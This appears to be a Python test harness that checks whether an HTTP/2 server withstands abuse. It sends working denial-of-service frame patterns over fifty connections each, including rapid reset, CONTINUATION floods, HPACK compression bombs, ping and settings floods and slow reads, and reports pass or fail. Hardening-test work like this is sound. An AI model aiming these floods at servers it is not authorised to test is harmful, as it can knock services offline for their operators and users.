#!/usr/bin/env python3
"""h2abuse.py HOST:PORT [PID] - abuses a running server over HTTP/2 (TLS), fifty connections for each pattern.

Each connection must be closed after at most 1,000 frames or 1 MiB, and plain requests must be answered all the while.
With the number of the server's process its memory and CPU time are watched, too: what an abuser takes away for good,
or costs. Ends with "N passed, N failed".
"""
import os
import pathlib
import socket
import ssl
import struct
import sys
import time

CONNECTIONS = 50
FRAMES, BYTES = 1000, 1 << 20
PATIENCE = 20  # seconds until the server must have closed
MEMORY_MOST = 64 << 20  # bytes that may stay in use afterwards, all patterns together
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method=b"GET", path=b"/"):
    return literal(b":method", method) + b"\x87" + literal(b":path", path) + literal(b":authority", b"localhost")


def request(stream, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, head())


def upload(stream):
    return frame(HEADERS, END_HEADERS, stream, head(b"POST"))


# Each pattern: what to send first, and the i-th round of it.
PATTERNS = {
    "rapid reset": (b"", lambda i: request(2 * i + 1) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")),
    "resets that the server is made to send": (b"", lambda i: request(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))),
    "pings": (b"", lambda i: frame(PING, 0, 0, struct.pack(">Q", i))),
    "settings": (b"", lambda i: frame(SETTINGS, 0, 0, b"\0\x04" + struct.pack(">I", 65535 + i % 2))),
    "large settings": (b"", lambda i: frame(SETTINGS, 0, 0, (b"\0\x04" + struct.pack(">I", 65535)) * 30)),
    "empty data": (upload(1), lambda i: frame(DATA, 0, 1)),
    "data of padding": (upload(1), lambda i: frame(DATA, PADDED, 1, b"\xff" + bytes(255))),
    "window updates": (b"", lambda i: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")),
    "priorities": (b"", lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10")),
    "unknown frames": (b"", lambda i: frame(0xBE, 0, 0, bytes(900))),
    "large unknown frames": (b"", lambda i: frame(0xBE, 0, 0, bytes(16384))),
    "endless headers": (frame(HEADERS, END_STREAM, 1, head()), lambda i: frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))),
    "empty continuations": (frame(HEADERS, END_STREAM, 1, head()), lambda i: frame(CONTINUATION, 0, 1)),
    "compression bombs": (
        frame(HEADERS, END_STREAM | END_HEADERS, 1, head() + b"\x40\x01x\x7f\x81\x1e" + b"y" * 4000),
        lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 3, head() + b"\xbe" * 16000),
    ),
    "requests beyond the limit of streams": (b"", lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, head(b"POST"))),
    "requests that are none": (b"", lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, b"\x82\x87")),
    "an answer byte by byte": (
        frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01") + request(1),
        lambda i: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01"),
    ),
    "goaway": (b"", lambda i: frame(GOAWAY, 0, 0, bytes(8) + b"x" * 900)),
}


def connect(address):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(address, timeout=PATIENCE))
    if connection.selected_alpn_protocol() != "h2":
        sys.exit("the server does not speak HTTP/2")
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def is_answered(address):
    """A plain request, on a connection of its own."""
    with connect(address) as connection:
        connection.sendall(request(1))
        data = b""
        while part := connection.recv(65536):
            data += part
            at = 0
            while at + 9 <= len(data):
                size, kind, stream = int.from_bytes(data[at:at + 3], "big"), data[at + 3], data[at + 8]
                if kind == HEADERS and stream == 1:
                    return True
                at += 9 + size
    return False


def abuse(connection, first, each):
    """Sends as much as may be borne; a server that closes earlier is right, too."""
    sent, frames, i = first, 0, 0
    while frames < FRAMES and len(sent) < BYTES:
        part = each(i)
        sent, frames, i = sent + part, frames + 1, i + 1
    try:
        connection.sendall(sent)
    except OSError:
        pass


def is_closed(connection):
    try:
        while connection.recv(65536):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def memory_and_cpu(pid):
    status = pathlib.Path(f"/proc/{pid}/status").read_text()
    times = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    memory = int(status.split("VmRSS:")[1].split()[0]) * 1024
    return memory, (int(times[11]) + int(times[12])) / os.sysconf("SC_CLK_TCK")


def try_pattern(address, name, pid):
    first, each = PATTERNS[name]
    cpu = memory_and_cpu(pid)[1] if pid else 0
    connections = [connect(address) for _ in range(CONNECTIONS)]
    answered = True
    for i, connection in enumerate(connections):
        abuse(connection, first, each)
        if i % 10 == 9:
            answered = is_answered(address) and answered
    left = sum(not is_closed(connection) for connection in connections)
    for connection in connections:
        connection.close()
    if pid:
        milliseconds = (memory_and_cpu(pid)[1] - cpu) * 1000 / CONNECTIONS
        print(f"{name}: {milliseconds:.1f} ms of the server's CPU for each abuser")
    if left:
        return f"{left} of {CONNECTIONS} connections were left open"
    return None if answered and is_answered(address) else "a plain request got no answer meanwhile"


def main():
    if len(sys.argv) not in (2, 3) or ":" not in sys.argv[1]:
        sys.exit("usage: h2abuse.py HOST:PORT [PID]")
    host, port = sys.argv[1].rsplit(":", 1)
    address, pid = (host.strip("[]"), int(port)), int(sys.argv[2]) if len(sys.argv) == 3 else 0
    passed = failed = 0
    before = memory_and_cpu(pid)[0] if pid else 0
    for name in PATTERNS:
        wrong = try_pattern(address, name, pid)
        if wrong:
            print(f"FAILED {name}: {wrong}")
        passed += not wrong
        failed += bool(wrong)
    if pid:
        time.sleep(1)
        grown = memory_and_cpu(pid)[0] - before
        print(f"memory afterwards: {grown / 1024:.0f} KiB more than before")
        passed += grown <= MEMORY_MOST
        failed += grown > MEMORY_MOST
    print(f"{passed} passed, {failed} failed")
    sys.exit(failed > 0)


main()
